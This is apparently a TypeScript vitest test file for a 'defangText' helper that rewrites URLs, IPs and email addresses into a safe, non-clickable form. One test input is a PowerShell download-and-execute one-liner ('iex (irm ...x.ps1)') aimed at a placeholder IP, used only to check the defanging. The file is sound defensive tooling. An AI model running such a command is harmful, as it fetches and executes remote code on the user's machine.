import { expect, it } from 'vitest';
import { defangText } from './defang.ts';

it.each([
  ['iex (irm http://203.0.113.77/x.ps1)', 'iex (irm hxxp://203[.]0[.]113[.]77/x.ps1)'],
  ['[Click](https://a.example/b) now', '[Click](hxxps://a[.]example/b) now'],
  ['see www.evil.example/x.', 'see www[.]evil[.]example/x[.]'],
  ['from bob@evil.example today', 'from bob[@]evil[.]example today'],
  ['FTP://h.example', 'fxp://h[.]example'],
  ['C:\\a.exe -v 1.2.3', 'C:\\a.exe -v 1.2.3'],
])('%j is shown as %j', (text, expected) => {
  expect(defangText(text).toLowerCase()).toBe(expected.toLowerCase());
});
